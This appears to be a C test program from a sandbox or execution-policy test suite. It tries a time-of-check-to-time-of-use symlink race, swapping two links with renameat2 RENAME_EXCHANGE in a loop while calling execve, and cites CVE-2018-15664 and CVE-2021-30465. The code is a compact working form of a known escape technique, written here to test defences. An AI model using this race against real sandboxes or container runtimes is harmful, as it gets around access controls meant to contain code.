/*
 * Has another thread change where a symbolic link leads to between the look at
 * it and the execution (CVE-2018-15664, CVE-2021-30465 and their like).
 */
#include "attempt.h"
#include "race.h"

static void *leads_to_either(void *arg)
{
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, "link", AT_FDCWD, "other", 2 /* RENAME_EXCHANGE */);
	return arg;
}

static void execute(char **argv, char **envp) { execve("link", argv, envp); }

int main(int argc, char **argv)
{
	end_if_granted(argc, argv);
	if (symlink(OTHER, "link") || symlink("/bin/race_link", "other"))
		refused("symlink");
	begin(leads_to_either, NULL);
	for (int i = 0; i < 500; i++)
		if (executed_other(execute))
			succeeded(OTHER " has been executed, by the %d. try", i + 1);
	refused("execve");
}
